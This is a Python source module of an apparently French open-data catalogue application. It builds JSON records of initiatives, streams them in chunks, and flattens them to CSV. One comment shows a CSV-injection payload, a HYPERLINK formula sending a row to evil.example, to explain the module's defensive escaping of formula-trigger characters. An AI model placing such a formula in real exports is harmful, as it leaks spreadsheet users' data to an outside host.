"""The open-data records of the catalogue: the JSON contract and its CSV flattening. The one
place where a fiche becomes open data: every exporter, the CLI and the API build on it.

Field names are a public contract (see docs/open-data.md): never rename them, only add."""

import csv
import io
import json
import uuid
from collections.abc import Iterable, Iterator
from datetime import UTC

from django.db.models import QuerySet

from cahier.catalogue import structured
from cahier.catalogue.enums import PublicationStatus
from cahier.catalogue.models import Funding, GlossaryTerm, Initiative, Keyword, PublicType
from cahier.catalogue.selectors import with_list_relations
from cahier.catalogue.structured import public_contact
from cahier.editions.models import Edition
from cahier.editions.selectors import edition_current, initiatives_with_number
from cahier.links.selectors import with_failed_link_checks
from cahier.quality.criteria import fiche_quality

LIST_SEPARATOR = " | "

# A spreadsheet runs a cell starting with one of these as a formula (OWASP « CSV injection »):
# `=HYPERLINK("http://evil.example/?"&A2)` would leak the row, `@SUM(…)`, `+1+2`, `-2+3` compute.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

LICENCE = {
    "name": "Licence Ouverte / Open Licence version 2.0",
    "id": "etalab-2.0",
    "url": "https://www.etalab.gouv.fr/licence-ouverte-open-licence/",
}

CSV_COLUMNS = [
    "number",
    "slug",
    "title",
    "region",
    "territory",
    "description",
    "added_value",
    "porteur",
    "public",
    "partners",
    "links",
    "referent_emails",
    "results",
    "provenance_event",
    "provenance_year",
    "provenance_status",
    "provenance_category",
    "keywords",
    "publics",
    "fundings",
    # Added columns go last: spreadsheets that read columns by position keep working.
    "id",
    # 1.2.0: life of the project, transfer kit, outcomes, lineage (docs/essaimage.md).
    "status",
    "started_year",
    "ended_year",
    "updated_at",
    "verified_at",
    "transfer_success_conditions",
    "transfer_pitfalls",
    "transfer_budget_min",
    "transfer_budget_max",
    "transfer_funders",
    "transfer_staff_fte",
    "transfer_setup_time",
    "transfer_essential_partners",
    "transfer_prerequisites",
    "transfer_resources",
    "transfer_openness",
    "transfer_offers",
    "outcomes",
    "replication_of",
    "replications",
    # 1.5.0: when the fiche was published, its check interval and when it is next due
    # (docs/living-catalogue.md).
    "published_at",
    "check_interval_months",
    "next_check_at",
]
# Columns that flatten a nested object of the record: « provenance_year » is provenance.year.
NESTED = ("provenance", "transfer")


def initiative_record(initiative: Initiative) -> dict:
    """One initiative as the open-data JSON object. Expects `with_relations()` and `number`."""
    return {
        **printed_record(initiative),
        # 1.4.0: the quality score and the ids of the criteria it misses (docs/living-catalogue.md).
        "quality": fiche_quality(initiative).record(),
        # 1.5.0: how often the holder confirms the fiche, and when next (the reminders' rule,
        # counted from the last verification, else from the publication: both are carried, so
        # that a reloaded export gives the same date).
        "published_at": _timestamp(initiative.published_at),
        "check_interval_months": initiative.check_interval_months,
        "next_check_at": _timestamp(initiative.next_check_at()),
    }


def printed_record(initiative: Initiative) -> dict:
    """The record without what only describes the fiche today (its quality score, which
    follows link checks and the clock; its check interval and next check, which are the
    reminders' business): what a published edition freezes (its snapshots)."""
    event = initiative.event
    return {
        "id": str(initiative.uid),
        "number": getattr(initiative, "number", None),
        "slug": initiative.slug,
        "title": initiative.title,
        "region": initiative.region.name,
        "territory": initiative.territory,
        "description": initiative.description,
        "added_value": list(initiative.added_value),
        "porteur": initiative.porteur_label,
        "public": initiative.public,
        "partners": list(initiative.partners),
        "links": list(initiative.links),
        "referent_emails": list(initiative.referent_emails),
        "results": initiative.results,
        "provenance": {
            "event": event.kind if event else None,
            "year": event.year if event else None,
            "status": initiative.provenance_status or None,
            "category": initiative.provenance_category or None,
        },
        "keywords": [term.label for term in initiative.index_terms("keywords")],
        "publics": [term.label for term in initiative.index_terms("publics")],
        "fundings": [term.label for term in initiative.index_terms("fundings")],
        "status": initiative.project_status,
        "started_year": initiative.started_year,
        "ended_year": initiative.ended_year,
        "updated_at": _timestamp(initiative.updated_at),
        "verified_at": _timestamp(initiative.verified_at),
        "transfer": transfer_record(initiative),
        "outcomes": [dict(outcome) for outcome in initiative.outcomes],
        "replication_of": origin_record(initiative),
        "replications": [
            {
                "id": str(replication.uid),
                "slug": replication.slug,
                "title": replication.title,
                "region": replication.region.name,
            }
            for replication in _published_replications(initiative)
        ],
        "contacts": [public_contact(contact) for contact in initiative.contacts],
    }


def _timestamp(value) -> str | None:
    """ISO 8601 in UTC, to the second: what reusers compare and sort."""
    if value is None:
        return None
    return value.astimezone(UTC).replace(microsecond=0).isoformat().replace("+00:00", "Z")


def transfer_record(initiative: Initiative) -> dict:
    """The transfer kit (« Pour essaimer ») of the record."""
    budget = None
    if initiative.budget_min is not None or initiative.budget_max is not None:
        budget = {"min": initiative.budget_min, "max": initiative.budget_max, "currency": "EUR"}
    return {
        "success_conditions": initiative.success_conditions,
        "pitfalls": initiative.pitfalls,
        "budget": budget,
        "funders": [dict(funder) for funder in initiative.funders],
        "staff_fte": initiative.staff_fte,
        "setup_time": initiative.setup_months,
        "essential_partners": initiative.essential_partners,
        "prerequisites": initiative.prerequisites,
        "resources": [dict(resource) for resource in initiative.resources],
        "openness": initiative.openness,
        "offers": list(initiative.offers),
    }


def origin_record(initiative: Initiative) -> dict | None:
    """What the fiche replicates: a fiche of the catalogue (published: a draft's title is not
    public), or an outside project (`id` and `slug` null, its `url`)."""
    origin = initiative.replication_of
    adaptations = initiative.adaptations
    if origin is not None and origin.status == PublicationStatus.PUBLISHED:
        return {
            "id": str(origin.uid),
            "slug": origin.slug,
            "title": origin.title,
            "url": None,
            "adaptations": adaptations,
        }
    if initiative.origin_name or initiative.origin_url:
        return {
            "id": None,
            "slug": None,
            "title": initiative.origin_name,
            "url": initiative.origin_url or None,
            "adaptations": adaptations,
        }
    return None


def _published_replications(initiative: Initiative) -> list[Initiative]:
    if hasattr(initiative, "published_replications"):  # prefetched by with_relations()
        return initiative.published_replications
    return list(initiative.replications.published().select_related("region").order_by("title"))


def edition_record(edition: Edition | None) -> dict:
    """The edition and its list of fiches. A published edition is frozen: its list is the one
    it printed (titles from its snapshots, a fiche since taken back to draft included). An
    edition in preparation follows the catalogue: published fiches only, titles as they are."""
    if edition is None:
        return {}
    entries = edition.entries.select_related("initiative").order_by("number")
    frozen = edition.snapshot is not None
    if not frozen:
        entries = entries.filter(initiative__status=PublicationStatus.PUBLISHED)
    entries = list(entries)

    def printed_title(entry) -> str:
        snapshot = entry.snapshot if frozen and entry.snapshot else {}
        return entry.list_title or snapshot.get("title") or entry.initiative.title

    return {
        "slug": edition.slug,
        "year": edition.year,
        "title": edition.title,
        "subtitle": edition.subtitle,
        "publisher": edition.publisher,
        "edito": edition.edito,
        "edito_signature": edition.edito_signature,
        "fiche_count": len(entries),
        "list": [{"number": entry.number, "title": printed_title(entry)} for entry in entries],
    }


def taxonomies_record() -> dict:
    """The index tables with their order, so that a loaded export sorts its labels the same."""
    return {
        name: [
            {"label": term.label, "slug": term.slug, "position": term.position}
            for term in model.objects.order_by("position", "label")
        ]
        for name, model in (("keywords", Keyword), ("publics", PublicType), ("fundings", Funding))
    }


def glossary_record() -> list[dict]:
    return [
        {"acronym": term.acronym, "definition": term.definition}
        for term in GlossaryTerm.objects.order_by("acronym")
    ]


# Fiches read at once by a streamed export (initiative_record_chunks): its memory is that of
# a chunk's records (≈ 5 MB), whatever the size of the catalogue.
EXPORT_CHUNK = 500


def _fiche_order(number: int | None, title: str, pk: int) -> tuple:
    """Fiche order of an edition: numbered fiches by number, then the others by title."""
    return (number is None, number or 0, title, pk)


def catalogue_initiatives(
    *, queryset: QuerySet[Initiative] | None = None, edition: Edition | None = None
) -> list[Initiative]:
    """*queryset* (default: every published initiative) in fiche order of *edition* (default:
    current), unnumbered ones last, with `number` and the relations the records need (the
    failed link checks of the quality score included: one query for the list)."""
    edition = edition or edition_current()
    queryset = Initiative.objects.published() if queryset is None else queryset
    initiatives = with_list_relations(
        list(
            with_failed_link_checks(
                initiatives_with_number(queryset, edition).with_relations(prefetch=False)
            )
        )
    )
    return sorted(initiatives, key=lambda i: _fiche_order(i.number, i.title, i.pk))


def catalogue_initiative_chunks(
    *,
    queryset: QuerySet[Initiative] | None = None,
    edition: Edition | None = None,
    size: int | None = None,
) -> Iterator[list[Initiative]]:
    """`catalogue_initiatives`, the same fiches in the same order, *size* at a time: only the
    ids, numbers and titles of the whole set are read at once (to put it in order), then each
    chunk with its relations. *size* defaults to EXPORT_CHUNK."""
    size = size or EXPORT_CHUNK
    edition = edition or edition_current()
    queryset = Initiative.objects.published() if queryset is None else queryset
    keys = initiatives_with_number(queryset, edition).values_list("number", "title", "pk")
    ordered = [row[2] for row in sorted(keys, key=lambda row: _fiche_order(*row))]
    for start in range(0, len(ordered), size):
        chunk = Initiative.objects.filter(pk__in=ordered[start : start + size])
        yield catalogue_initiatives(queryset=chunk, edition=edition)


def initiative_record_chunks(
    *,
    queryset: QuerySet[Initiative] | None = None,
    edition: Edition | None = None,
    size: int | None = None,
) -> Iterator[list[dict]]:
    """`initiative_records`, the same records in the same order, a chunk of fiches at a time
    (`catalogue_initiative_chunks`)."""
    for chunk in catalogue_initiative_chunks(queryset=queryset, edition=edition, size=size):
        yield [initiative_record(initiative) for initiative in chunk]


def initiative_published(key: str) -> Initiative | None:
    """The published initiative whose permanent `id` or slug is *key*, numbered in the current
    edition, ready for `initiative_record`: a reuser who kept the `id` finds the fiche even
    after its slug changed."""
    try:
        lookup = {"uid": uuid.UUID(key)}
    except ValueError:
        lookup = {"slug": key}
    found = catalogue_initiatives(queryset=Initiative.objects.published().filter(**lookup))
    return found[0] if found else None


def initiative_records(
    *, queryset: QuerySet[Initiative] | None = None, edition: Edition | None = None
) -> list[dict]:
    """The records of *queryset* (default: every published initiative), numbered and ordered
    as in *edition* (default: current)."""
    return [initiative_record(i) for i in catalogue_initiatives(queryset=queryset, edition=edition)]


def catalogue_document(
    *, queryset: QuerySet[Initiative] | None = None, edition: Edition | None = None
) -> dict:
    """The open-data JSON document, the one shape of `cahier export --format json` and of
    `/api/v1/exports/initiatives.json`: licence, edition, the initiatives of *queryset*
    (default: every published one) numbered in *edition* (default: current), glossary and
    index tables. `cahier.opendata.loader.catalogue_load_json` loads it back."""
    edition = edition or edition_current()
    return _document(edition, initiative_records(queryset=queryset, edition=edition))


def _document(edition: Edition | None, initiatives: list[dict]) -> dict:
    return {
        "licence": LICENCE,
        "edition": edition_record(edition),
        "initiatives": initiatives,
        "glossary": glossary_record(),
        "taxonomies": taxonomies_record(),
    }


def to_json(document: dict | list) -> str:
    return json.dumps(document, ensure_ascii=False, indent=2) + "\n"


# Stands for a list of records in a document dumped around it (json_chunks).
_PLACEHOLDER = "\u0000records\u0000"


def json_chunks(
    document: dict | list, chunks: Iterable[list[dict]], key: str = ""
) -> Iterator[str]:
    """`to_json(document)` once its list of records (the document itself, or its *key*) is
    made of *chunks*, the same text, in pieces: the document around the list first, then one
    piece per chunk of records. A download of 100 000 fiches never holds them all."""
    if key:
        text = to_json({**document, key: _PLACEHOLDER})
        depth = 1  # the list is a value of the top-level object
    else:
        text = to_json(_PLACEHOLDER)
        depth = 0
    before, after = text.split(json.dumps(_PLACEHOLDER), 1)
    indent = "  " * (depth + 1)  # json.dumps(indent=2) puts the list's items one level deeper
    yield before
    opened = False
    for records in chunks:
        if not records:
            continue
        items = [
            indent + json.dumps(record, ensure_ascii=False, indent=2).replace("\n", "\n" + indent)
            for record in records
        ]
        yield ("," if opened else "[") + "\n" + ",\n".join(items)
        opened = True
    yield ("\n" + "  " * depth + "]" if opened else "[]") + after


def catalogue_document_chunks(
    *, queryset: QuerySet[Initiative] | None = None, edition: Edition | None = None
) -> Iterator[str]:
    """`to_json(catalogue_document(…))`, the same text, a chunk of fiches at a time
    (`json_chunks`): what `/api/v1/exports/initiatives.json` streams."""
    edition = edition or edition_current()
    chunks = initiative_record_chunks(queryset=queryset, edition=edition)
    return json_chunks(_document(edition, []), chunks, key="initiatives")


# How a list of records reads in one CSV cell (the JSON keeps the structure).
CSV_ITEM_TEXT = {
    "transfer_funders": structured.funder_text,
    "outcomes": structured.outcome_text,
    "transfer_resources": structured.resource_text,
    "replications": lambda replication: replication["slug"],
}


def _cell_reader(column: str):
    """How the CSV column *column* reads a record: decided once per column, not per cell (an
    export of 100 000 fiches has 4 million cells)."""
    for parent in NESTED:
        if column.startswith(f"{parent}_"):
            key = column.removeprefix(f"{parent}_")
            if parent == "transfer" and key in ("budget_min", "budget_max"):
                bound = key.removeprefix("budget_")
                return lambda record: (record["transfer"]["budget"] or {}).get(bound)
            return lambda record: record[parent][key]
    if column == "replication_of":
        return _origin_cell
    return lambda record: record[column]


def _origin_cell(record: dict):
    origin = record["replication_of"]
    return (origin["slug"] or origin["url"] or origin["title"]) if origin else None


_CELL_READERS = [(column, _cell_reader(column)) for column in CSV_COLUMNS]


def csv_row(record: dict) -> dict:
    row = {}
    for column, read in _CELL_READERS:
        value = read(record)
        if isinstance(value, list):
            item_text = CSV_ITEM_TEXT.get(column, str)
            value = LIST_SEPARATOR.join(item_text(item) for item in value)
        row[column] = "" if value is None else value
    return row


def spreadsheet_safe(value):
    """*value* as a CSV cell that a spreadsheet shows as text: a text starting with a formula
    trigger gets a leading « ' » (OWASP), « - liste » included, since a spreadsheet cannot
    tell « -3 jeunes » from « -3+A1 ». Numbers are left alone. The JSON stays exact, and the
    XLSX needs none of this: its cells are typed, text is never a formula there."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def to_csv(records: Iterable[dict]) -> str:
    return "".join(csv_lines([list(records)]))


def csv_lines(chunks: Iterable[list[dict]]) -> Iterator[str]:
    """The CSV text of the records, the header then one piece per chunk of records."""
    buffer = io.StringIO()
    # A plain writer given the cells in CSV_COLUMNS order: the bytes of a DictWriter, without
    # its check of every row's keys.
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(CSV_COLUMNS)
    for records in chunks:
        for record in records:
            writer.writerow([spreadsheet_safe(value) for value in csv_row(record).values()])
        yield buffer.getvalue()
        buffer.seek(0)
        buffer.truncate()
    yield buffer.getvalue()
